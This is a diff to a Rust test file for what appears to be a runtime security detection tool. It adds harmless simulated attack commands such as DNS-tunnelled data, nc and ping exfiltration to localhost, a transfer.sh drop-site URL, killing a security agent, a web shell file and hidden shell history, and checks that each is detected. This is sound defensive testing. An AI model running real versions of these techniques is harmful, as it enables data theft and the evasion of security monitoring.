@@ -39,6 +39,16 @@ const ASKS_NAMES: &str = "perl -MSocket -e 'srand 5; socket(my $s, AF_INET, SOCK
         send $s, $question, 0, pack_sockaddr_in(53, inet_aton(\"127.0.0.1\"));
     }'";
 
+/// 8 questions for names that carry something, all in one domain.
+const ASKS_FOR_DATA: &str = "perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0);
+    for (1 .. 8) {
+        my $question = pack(\"n6\", $_, 0x100, 1, 0, 0, 0) . pack(\"C/a* C/a* C/a* C n n\", \"6e61cafe0de1${_}b3f45a9c7d20\", \"tun\", \"invalid\", 0, 16, 1);
+        send $s, $question, 0, pack_sockaddr_in(53, inet_aton(\"127.0.0.1\"));
+    }'";
+
+/// open_by_handle_at(2), of a handle that leads nowhere: not every file system has some.
+const OPENS_BY_HANDLE: &str = "perl -e 'my $h = pack(\"Ll\", 8, 1) . \"\\0\" x 8; syscall(304, -100, $h, 0)'";
+
 /// unshare(0) by code in memory of no file: mmap(2) of some to execute, read(2) into it, and a call.
 const CALLS_FROM_NOWHERE: &str = "perl -MDynaLoader -e '
 my $at = syscall 9, 0, 4096, 7, 34, -1, 0;
@@ -230,7 +240,40 @@ const ATTACKS: &[(&str, &str)] = &[
     ("shell_trap_command", "bash -c 'trap \"nohup true\" EXIT; exit 0'"),
     ("written_program_executed", "dd if=/bin/true of=/tmp/written; chmod +x /tmp/written; /tmp/written"),
     ("cluster_api_asked", "KUBERNETES_SERVICE_HOST=127.0.0.1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/6443'"),
+    ("guards_searched", "echo | grep falcon-sensor"),
+    ("keys_logged_by_shell", "bash -c 'trap \": typed\" DEBUG; true'"),
+    ("misleading_name_executed", "cp /bin/true /tmp/picture.png; /tmp/picture.png"),
+    ("guard_configuration_modification", "mkdir -p /etc/selinux; echo >/etc/selinux/config"),
+    ("guard_killed", "cp /bin/sleep /tmp/falco; /tmp/falco 9 & sleep 0.3; kill -9 $!; wait"),
+    ("swap_switched_off", "cp /bin/true /usr/local/bin/swapoff; /usr/local/bin/swapoff -a"),
+    ("port_redirected", "cp /bin/true /usr/local/bin/iptables; /usr/local/bin/iptables -t nat -A PREROUTING -j REDIRECT"),
+    ("named_pipe_shell", "mkfifo /tmp/pipe; cp /bin/true /usr/local/bin/nc; /usr/local/bin/nc 127.0.0.1 9"),
+    ("file_sent_by_tool", "/usr/local/bin/nc 127.0.0.1 9 </etc/hostname"),
+    ("data_in_ping", "/usr/local/bin/ping -p 41424344 127.0.0.1"),
+    ("drop_site_used", "curl -s 'http://127.0.0.1:9/?to=//transfer.sh/'"),
+    ("data_in_dns_queries", ASKS_FOR_DATA),
+    ("script_from_descriptor", "bash <(echo true)"),
+    // Of a script that does nothing.
+    (
+        "decoded_file_executed",
+        "echo IyEvYmluL3NoCg== | base64 -d >/usr/local/bin/decoded; chmod +x /usr/local/bin/decoded; /usr/local/bin/decoded",
+    ),
+    ("web_shell_written", "mkdir -p /var/www/html; echo >/var/www/html/shell.php"),
+    // io_uring_setup(2).
+    ("io_uring_by_unlikely_program", "perl -e 'my $p = \"\\0\" x 120; syscall 425, 8, $p'"),
+    ("account_changed", "cp /bin/true /usr/local/bin/chpasswd; /usr/local/bin/chpasswd"),
+    ("library_path_modification", "mkdir -p /etc/ld.so.conf.d; echo >/etc/ld.so.conf.d/tarsius.conf"),
+    ("transient_timer_created", "cp /bin/true /usr/local/bin/systemd-run; /usr/local/bin/systemd-run --on-calendar hourly id"),
+    (
+        "container_runtime_asked",
+        "perl -MSocket -e 'my $at = pack_sockaddr_un(\"/tmp/docker.sock\"); socket my $l, AF_UNIX, SOCK_STREAM, 0; bind $l, $at; listen $l, 1;
+            socket my $s, AF_UNIX, SOCK_STREAM, 0; connect $s, $at'",
+    ),
+    ("disk_node_made", "mknod /tmp/disk b 240 0"),
+    ("file_opened_by_handle", OPENS_BY_HANDLE),
+    ("web_server_by_hand", "sh -c ': python3 -m http.server'"),
     // Those that look only where they are named.
+    ("history_left_out", "HISTCONTROL=ignoreboth bash -c true"),
     (
         "compiled_program_executed",
         "cp $(command -v perl) /usr/local/bin/ld.bfd
@@ -262,6 +305,8 @@ bash -c 'trap \"rm -f other2\" EXIT; true'; perl -e 'print 1'; ps; env; sleep 0;
 cat /etc/hostname /etc/os-release
 perl -MMIME::Base64 -e 'for (1 .. 30) { open my $f, q(>), qq(coded$_); print $f encode_base64(join q(), map { chr int rand 256 } 1 .. 64) }'
 perl -e 'for (1 .. 30) { open my $f, q(>), qq(words$_); print $f qq(The quick brown fox jumps over the lazy dog, $_ times.) }'
+mkfifo pipe; cat pipe & echo x >pipe; wait; cat <(echo hello) </etc/hostname; HISTSIZE=1000 HISTCONTROL=ignoredups bash -c true
+echo true >todo.txt.x; sh ./todo.txt.x; sysctl kernel.ostype; sleep 5 & kill $!; wait; base64 all.tar.gz | base64 -d >again.tar.gz
 ln -s /etc/hostname name; ln link hard; chmod 755 all.tar.gz; perl -e '$0 = q(work)'; dig +tries=1 +time=1 @127.0.0.1 www.example.org
 useradd --help; systemctl --version; ssh -V; git --version; openssl version; ip addr
 ";
@@ -314,15 +359,12 @@ fn work(_: &str) {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
-/// open_by_handle_at(2), of a handle that leads nowhere: not every file system has some.
-const OPENS_BY_HANDLE: &str =
-    "exec perl -e 'my $h = pack(\"Ll\", 8, 1) . \"\\0\" x 8; syscall(304, -100, $h, 0)'";
-
 /// What is an attack in a container only: outside is the control.
 fn in_container(_: &str) {
     let container = Container::new("c");
     let watch = Watch::start(&["--events", "open_by_handle_in_container,open_by_handle_at"]);
-    let (inside, outside) = (container.sh(OPENS_BY_HANDLE), sh(OPENS_BY_HANDLE));
+    let opens = format!("exec {OPENS_BY_HANDLE}");
+    let (inside, outside) = (container.sh(&opens), sh(&opens));
     let account = watch.stop();
     account.assert_clean();
     let of = |name| account.lines.of(name);
